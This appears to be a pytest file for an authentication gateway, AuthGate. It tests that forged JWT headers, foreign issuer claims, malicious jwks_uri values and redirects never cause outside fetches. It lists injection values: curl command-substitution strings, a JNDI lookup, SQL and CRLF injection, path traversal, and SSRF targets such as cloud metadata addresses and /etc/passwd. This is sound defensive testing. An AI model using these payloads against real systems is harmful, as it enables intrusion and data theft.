"""Attacks that make AuthGate fetch something: URLs in tokens and in documents of the issuer (J4, J6, J7, J13).

The real server runs in this process, so these tests see every connection that it starts. The issuer is another process.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import json
import socket
from typing import TYPE_CHECKING, Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.support.canary import canary, network_watched
from tests.support.issuer import Issuer, SigningKey, by_url, running_issuer
from tests.support.serving import BY_DISCOVERY, Served, bearer_line, outcome, report, serving_keys
from tests.support.tokens import b64, mint, sign_raw

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

    from tests.support.canary import Canary, Seen

ADAPTERS = ("nginx", "traefik", "caddy")


@pytest.fixture
def trusted(tmp_path: Path) -> Iterator[Issuer]:
    with running_issuer(tmp_path) as running:
        yield running


@pytest.fixture
def lure() -> Iterator[Canary]:
    with canary() as listening:
        yield listening


def allowed_addresses(served: Served, *issuers: Issuer) -> set[str]:
    """Return the addresses that this process may connect to: the issuers, and the server, which the test asks."""
    return {served.auth, served.admin, *(each.address for each in issuers)}


# -- URLs and keys in tokens (J4, J13) --------------------------------------------------------------------------------


def certificate(private: Any) -> bytes:
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "app")])
    start = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    builder = x509.CertificateBuilder().subject_name(name).issuer_name(name).serial_number(1)
    builder = builder.not_valid_before(start).not_valid_after(start + dt.timedelta(days=3650))
    return builder.public_key(private.public_key()).sign(private, hashes.SHA256()).public_bytes(Encoding.DER)


def forged_headers(forger: SigningKey, url: str, planted: str) -> dict[str, dict[str, Any]]:
    """Return headers that ask for verification with the key of the *forger*, by the kind of the attempt."""
    der = certificate(forger.private)
    forged_jwk = {**forger.jwk, "kid": "K1"}
    x5c = [base64.b64encode(der).decode()]
    thumbprints = {"x5t": b64(hashlib.sha1(der).digest()), "x5t#S256": b64(hashlib.sha256(der).digest())}
    keys = {
        "jku": {"jku": f"{url}/jwks.json"},
        "jku that begins like the issuer's": {"jku": f"http://127.0.0.1@{url.removeprefix('http://')}/jwks"},
        "x5u": {"x5u": f"{url}/cert.pem"},
        "x5u with thumbprints": {"x5u": f"{url}/cert.pem", **thumbprints},
        "jwk": {"jwk": forged_jwk},
        "jwk with a url": {"jwk": {**forged_jwk, "x5u": f"{url}/cert.pem"}},
        "x5c": {"x5c": x5c, **thumbprints},
        "everything": {"jku": f"{url}/jwks", "x5u": f"{url}/cert", "jwk": forged_jwk, "x5c": x5c, **thumbprints},
    }
    ids = {"the known kid": "K1", "an unknown kid": "forged", "no kid": None}
    named = {
        f"{kind}, {which}": {**header, "kid": key_id} for kind, header in keys.items() for which, key_id in ids.items()
    }
    return named | {
        f"kid {key_id[:40]!a}": {"kid": key_id}
        for key_id in (
            f"{url}/key.pem",
            f"{url.replace('http', 'ftp')}/key.pem",
            f"//{url.removeprefix('http://')}/key",
            planted,
            f"file://{planted}",
            f"../../../../../../../..{planted}",
            "/dev/null",
            "K1' OR '1'='1",
            "x' UNION SELECT 'secret';--",
            "K1\0",
            "K1\0.pem",
            "K1\r\nX-User-Id: admin",
            "| curl " + url,
            "$(curl " + url + ")",
            "${jndi:ldap://" + url.removeprefix("http://") + "/a}",
            "k" * 10_240,
            "",
            " K1",
            "k1",
        )
    }


def foreign_issuers(own: str, url: str) -> dict[str, Any]:
    """Return values of `iss` that are not *own*, by the kind of the attempt."""
    values = {
        "a URL elsewhere": url,
        "discovery elsewhere": f"{url}/.well-known/openid-configuration",
        "its own URL as user": f"{own}@{url.removeprefix('http://')}",
        "a prefix": own[:-1],
        "a suffix": own[1:],
        "with a slash": f"{own}/",
        "with a path": f"{own}/tenant",
        "with a query": f"{own}?x={url}",
        "with a fragment": f"{own}#",
        "in capitals": own.upper(),
        "with a space": f"{own} ",
        "with a NUL": f"{own}\0",
        "two in one": f"{own} {url}",
        "a list": [own],
        "a list of two": [url, own],
        "an object": {"iss": own},
        "null": None,
        "a number": 1,
        "true": True,
        "empty": "",
    }
    return {kind: value for kind, value in values.items() if value != own}


async def all_refused(served: Served, tokens: Mapping[str, str]) -> tuple[dict[str, tuple[int, str]], Seen]:
    """Send each token through each adapter. Return the last answers, and what the process did meanwhile."""
    answers = {}
    with network_watched() as seen:
        for kind, token in tokens.items():
            for proxy in ADAPTERS:
                answer = await served.ask(proxy, bearer_line(token))
                assert (answer.status, answer.all("X-User-Id")) == (401, []), kind
                answers[kind] = (answer.status, answer.reason)
    return answers, seen


def test_J4_the_watch_records_connections_lookups_and_files(tmp_path: Path, lure: Canary) -> None:
    with network_watched() as seen:
        socket.create_connection(("127.0.0.1", lure.port)).close()
        (tmp_path / "file").write_bytes(b"")
    assert lure.connections() == 1
    assert seen.connected == {lure.address}
    assert "127.0.0.1" in seen.looked_up
    assert str(tmp_path / "file") in seen.opened


@pytest.mark.parametrize("source", [{}, BY_DISCOVERY], ids=["jwks_url", "discovery"])
async def test_J4_a_key_or_url_in_a_token_is_neither_used_nor_fetched(
    tmp_path: Path, trusted: Issuer, lure: Canary, source: dict[str, Any]
) -> None:
    """CVE-2018-0114, CVE-2026-27962 (Authlib). For an unknown key, AuthGate asks only the configured issuer."""
    forger = SigningKey.new("K1", "ES256")
    planted = tmp_path / "planted.pem"
    planted.write_bytes(forger.private.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))
    headers = forged_headers(forger, lure.url, str(planted))
    trusted.keys["forger"] = forger
    tokens = {kind: trusted.token(key="forger", header=header) for kind, header in headers.items()}
    tokens["the empty file as secret"] = sign_raw(
        json.dumps({"alg": "HS256", "kid": "/dev/null"}).encode(),
        json.dumps({"iss": trusted.url, "sub": "u1", "aud": "tasks", "exp": 9_999_999_999}).encode(),
        key=b"",
    )
    async with serving_keys(tmp_path, by_url("app", trusted, **source)) as served:
        assert await outcome(served, trusted.token(header={"jku": lure.url, "x5u": lure.url})) == (200, "")  # ignored
        trusted.forget()
        answers, seen = await all_refused(served, tokens)
        assert lure.connections() == 0
        assert seen.connected <= allowed_addresses(served, trusted)
        assert trusted.address in seen.connected, (
            "for the unknown key id AuthGate asked the issuer, and the watch saw it"
        )
        assert seen.looked_up <= {"127.0.0.1"}
        assert not [path for path in seen.opened if "planted" in path or "/dev/" in path]
        assert not seen.run
        assert {reason for _, reason in answers.values()} <= {
            "bad_signature",
            "unknown_key",
            "wrong_algorithm",
            "malformed_token",
        }
        assert {request.path for request in trusted.requests()} <= {trusted.jwks_path, trusted.openid_path}
        assert len(trusted.requests(trusted.jwks_path)) == 1, "one load per cooldown"
        assert await outcome(served, trusted.token(sub="still served")) == (200, "")


@pytest.mark.parametrize("source", [{}, BY_DISCOVERY], ids=["jwks_url", "discovery"])
async def test_J13_an_unknown_iss_is_refused_and_nothing_is_fetched(
    tmp_path: Path, trusted: Issuer, lure: Canary, source: dict[str, Any]
) -> None:
    """CVE-2024-53861 / GHSA-75c5 (PyJWT). The signature is valid: only `iss` decides, before any key is used."""
    forger = SigningKey.new("forged", "ES256")
    tokens = {}
    for kind, iss in foreign_issuers(trusted.url, lure.url).items():
        claims = json.loads(base64.urlsafe_b64decode(trusted.token().split(".")[1] + "=="))
        tokens[kind] = mint(
            {**claims, "iss": iss}, algorithm="ES256", key=trusted.keys["K1"].private, header={"kid": "K1"}
        )
        tokens[f"{kind}, unknown key"] = mint(
            {**claims, "iss": iss}, algorithm="ES256", key=forger.private, header={"kid": "forged"}
        )
    async with serving_keys(tmp_path, by_url("app", trusted, **source)) as served:
        assert await outcome(served, trusted.token()) == (200, "")
        trusted.forget()
        answers, seen = await all_refused(served, tokens)
        assert {reason for _, reason in answers.values()} <= {"unknown_issuer", "malformed_token"}
        assert seen.connected <= allowed_addresses(served)
        assert not seen.looked_up - {"127.0.0.1"}
        assert (lure.connections(), trusted.requests()) == (0, [])


# -- URLs in documents of the issuer (J6, J7) -------------------------------------------------------------------------


def bad_jwks_uris(port: int) -> dict[str, str]:
    return {
        "file": "file:///etc/passwd",
        "ftp": f"ftp://127.0.0.1:{port}/jwks",
        "data": 'data:application/json,{"keys":[]}',
        "gopher": f"gopher://127.0.0.1:{port}/_",
        "javascript": "javascript:alert(1)",
        "no-scheme": f"//127.0.0.1:{port}/jwks",
        "relative": "/jwks",
        "userinfo": f"http://user:password@127.0.0.1:{port}/jwks",
        "link-local": "http://169.254.169.254/latest/meta-data/",
        "link-local-v6": "http://[fe80::1]/jwks",
        "mapped": "http://[::ffff:169.254.169.254]/",
        "nat64": "http://[64:ff9b::a9fe:a9fe]/",
        "decimal": "http://2852039166/",
        "alibaba": "http://100.100.100.200/latest/meta-data/",
        "azure": "http://168.63.129.16/",
        "aws-v6": "http://[fd00:ec2::254]/",
        "unspecified": f"http://0.0.0.0:{port}/jwks",
        "unspecified-v6": f"http://[::]:{port}/jwks",
        "loopback-name": f"http://localhost:{port}/jwks",
        "loopback-other": f"http://127.0.0.2:{port}/jwks",
        "loopback-short": f"http://127.1:{port}/jwks",
        "loopback-hex": f"http://0x7f000001:{port}/jwks",
        "loopback-v6": f"http://[::1]:{port}/jwks",
        "empty": "",
    }


async def test_J6_metadata_leads_to_no_other_scheme_and_to_no_internal_address(
    tmp_path: Path, trusted: Issuer, lure: Canary
) -> None:
    """CVE-2026-48522 (PyJWT), CVE-2026-41413 (Istio): a document of the issuer says where its keys are."""
    tenants = {kind: trusted.tenant(f"/{kind}") for kind in bad_jwks_uris(lure.port)}
    for kind, uri in bad_jwks_uris(lure.port).items():
        tenants[kind].discovery(jwks_uri=uri)
    with network_watched() as seen:
        configured = [by_url(kind, tenant, **BY_DISCOVERY) for kind, tenant in tenants.items()]
        async with serving_keys(tmp_path, *configured, by_url("sound", trusted, **BY_DISCOVERY)) as served:
            for kind, tenant in tenants.items():
                assert await outcome(served, tenant.token()) == (503, "keys_unavailable"), kind
                key_report = await report(served, kind)
                assert key_report["keys"] == []
                assert "jwks_uri" in key_report["last_error"], kind
            assert await outcome(served, trusted.token()) == (200, "")
            addresses = allowed_addresses(served, trusted)
    assert lure.connections() == 0
    assert seen.looked_up <= {"127.0.0.1", "localhost"}
    # getaddrinfo connects UDP sockets to sort its results. It does so outside Python, where the watch does not see it.
    assert seen.connected <= addresses | {trusted.control_address}


async def test_J6_metadata_of_another_issuer_is_rejected(tmp_path: Path, trusted: Issuer, lure: Canary) -> None:
    claimed = {
        "elsewhere": {"issuer": lure.url},
        "slash": {"issuer": f"{trusted.url}/slash/"},
        "none": {"issuer": None},
        "list": {"issuer": [f"{trusted.url}/list"]},
        "neighbor": {"issuer": trusted.url},
    }
    tenants = {kind: trusted.tenant(f"/{kind}") for kind in claimed}
    for kind, changes in claimed.items():
        tenants[kind].discovery(**changes)
    configured = [by_url(kind, tenant, **BY_DISCOVERY) for kind, tenant in tenants.items()]
    async with serving_keys(tmp_path, *configured) as served:
        for kind, tenant in tenants.items():
            assert await outcome(served, tenant.token()) == (503, "keys_unavailable"), kind
            assert tenant.requests(tenant.jwks_path) == [], "the keys are not even fetched"


@pytest.mark.parametrize("code", [301, 302, 303, 307, 308])
async def test_J7_a_redirect_is_not_followed(tmp_path: Path, trusted: Issuer, lure: Canary, code: int) -> None:
    """GHSA-9v7f (PyJWT): the URL of a key set redirects to an attacker's key set."""
    kinds = {"away": f"{lure.url}/jwks", "same-origin": trusted.jwks_path, "no-scheme": f"//{lure.address}/jwks"}
    tenants = {kind: trusted.tenant(f"/{kind}") for kind in kinds}
    for kind, target in kinds.items():
        tenants[kind].answer("redirect", to=target, code=code)
    discovered = trusted.tenant("/discovered")
    for path in (discovered.openid_path, discovered.oauth_path):
        discovered.answer("redirect", to=f"{lure.url}/metadata", code=code, on=path)
    trusted.forget()
    configured = [by_url(kind, tenant) for kind, tenant in tenants.items()]
    with network_watched() as seen:
        async with serving_keys(tmp_path, *configured, by_url("discovered", discovered, **BY_DISCOVERY)) as served:
            for kind, tenant in (tenants | {"discovered": discovered}).items():
                assert await outcome(served, tenant.token()) == (503, "keys_unavailable"), kind
                assert f"({code})" in (await report(served, kind))["last_error"]
            addresses = allowed_addresses(served, trusted)
    assert lure.connections() == 0
    assert seen.connected <= addresses
    assert trusted.requests(trusted.jwks_path) == []
